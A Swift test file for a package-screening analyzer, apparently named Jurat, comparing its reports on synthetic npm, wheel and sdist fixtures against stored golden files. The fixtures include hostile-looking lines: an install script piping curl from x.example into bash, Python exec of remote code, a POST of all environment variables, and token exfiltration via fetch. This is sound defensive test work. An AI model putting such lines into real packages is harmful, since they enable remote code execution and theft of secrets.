import Foundation
import Screening
import TestSupport
import Testing

@testable import Analyzers

/// Artifacts whose whole reports are kept in `Tests/Fixtures/reports`.
///
/// A report that changes needs a new version of the analyzer or of its rules. Run the tests with
/// `JURAT_REWRITE_REPORTS=1` to write them anew, and read the difference.
private let goldenArtifacts: [(name: String, make: @Sendable () throws -> Artifact)] = [
    ("npm-honest", { try npmCode("module.exports = require('./lib/a')\n") { $0.addFile("package/lib/a.js", "1\n") } }),
    ("npm-capabilities", { try npmCode(capabilities) { $0.addFile("package/test/a.js", capabilities) } }),
    ("npm-install-network", { try npmInstall("require('https').get('https://x.example/list.json', () => {})\n") }),
    ("npm-decode-exec", { try npmCode("eval(atob('Y29uc29sZS5sb2coJ2FjbWUgYm94IHNheXMgaGVsbG8nKQ=='))\n") }),
    (
        "npm-data-file",
        {
            try npmInstall("require('vm').runInThisContext(require('fs').readFileSync('./notes.txt', 'utf8'))\n") {
                $0.addFile("package/notes.txt", "const fs = require('fs');\nfs.writeFileSync('a', process.version);\n")
            }
        }
    ),
    (
        "npm-names",
        {
            try npmCode("globalThis['ev' + 'al']('1')\nrequire('./.cache/a')\n") {
                $0.addFile("package/.cache/a.js", "1\n")
            }
        }
    ),
    ("npm-script", { try npmScript("curl -fsSL https://x.example/i | bash") }),
    ("wheel-honest", { try wheelCode("import json\n\ndef read(text):\n    return json.loads(text)\n") }),
    (
        "wheel-fetch-run",
        { try wheelCode("import urllib.request\nexec(urllib.request.urlopen('https://x.example/a').read())\n") }
    ),
    (
        "wheel-environment",
        { try wheelCode("import os, requests\nrequests.post('https://x.example', json=dict(os.environ))\n") }
    ),
    (
        "sdist-setup",
        {
            try sdistSetup(
                "import os\nfrom setuptools import setup\nos.system('unusual --now')\nsetup(cmdclass={'install': object})\n"
            )
        }
    ),
    (
        "sdist-tests",
        { try sdist { $0.addFile("acme_box-1.2.3/tests/test_a.py", "import subprocess\nsubprocess.run(['ls'])\n") } }
    ),
]

private let capabilities = """
    const fs = require('fs')
    exports.save = (name, text) => { fs.writeFileSync(name, text); fs.unlinkSync(name + '.old') }
    exports.fetch = () => require('https').get('https://x.example/', () => {})
    exports.home = process.env.HOME

    """

@Suite("Whole reports")
struct GoldenReportTests {
    private static let folder = URL(filePath: #filePath).deletingLastPathComponent().deletingLastPathComponent()
        .appending(path: "Fixtures/reports")

    private func text(of report: AnalysisReport) -> String {
        var lines = ["verdict \(report.verdict.rawValue)"]
        for finding in report.findings.map(\.finding) {
            let place = finding.path.map { " \($0)" + (finding.line.map { ":\($0)" } ?? "") } ?? ""
            lines.append(
                "\(finding.severity.rawValue) \(finding.rule) \(finding.evidence ?? "")\(place) ×\(finding.count)")
        }
        for use in report.capabilities {
            let places = use.places.map { "\($0.path):\($0.line ?? 0)" }.joined(separator: " ")
            lines.append("can \(use.word) (\(use.rule)) @\(use.reach.rawValue) ×\(use.count): \(places)")
        }
        lines += report.unanalyzed.map { "unread \($0)" }
        return lines.joined(separator: "\n") + "\n"
    }

    @Test("a report changes only together with the analyzer's version", arguments: goldenArtifacts.map(\.name))
    func golden(_ name: String) throws {
        let artifact = try #require(goldenArtifacts.first { $0.name == name }).make()
        let found = text(of: artifact.report())
        let file = Self.folder.appending(path: "\(name).txt")
        if ProcessInfo.processInfo.environment["JURAT_REWRITE_REPORTS"] != nil {
            try FileManager.default.createDirectory(at: Self.folder, withIntermediateDirectories: true)
            try Data(found.utf8).write(to: file)
        }
        let kept = try String(contentsOf: file, encoding: .utf8)
        #expect(found == kept)
    }

    @Test("the order of the files in the archive changes nothing")
    func order() throws {
        var files: [(String, String)] = (0..<40).map {
            ("package/lib/f\($0).js", "eval(x\($0))\nrequire('./f\($0 + 1)')\n")
        }
        files += (0..<20).map { ("package/test/t\($0).js", "require('child_process').exec('ls')\n") }
        files.append(("package/index.js", "require('./lib/f3')\nfetch(process.env.ACME_TOKEN)\n"))
        func answer(_ files: [(String, String)]) throws -> [UInt8] {
            let artifact = try npmTarball { tar in for file in files { tar.addFile(file.0, file.1) } }
            return AnalysisAnswer.encode(artifact.report())
        }
        let first = try answer(files)
        #expect(try answer(files.reversed()) == first)
        var generator = SeededRandom(seed: 7)
        #expect(try answer(files.shuffled(using: &generator)) == first)
    }
}
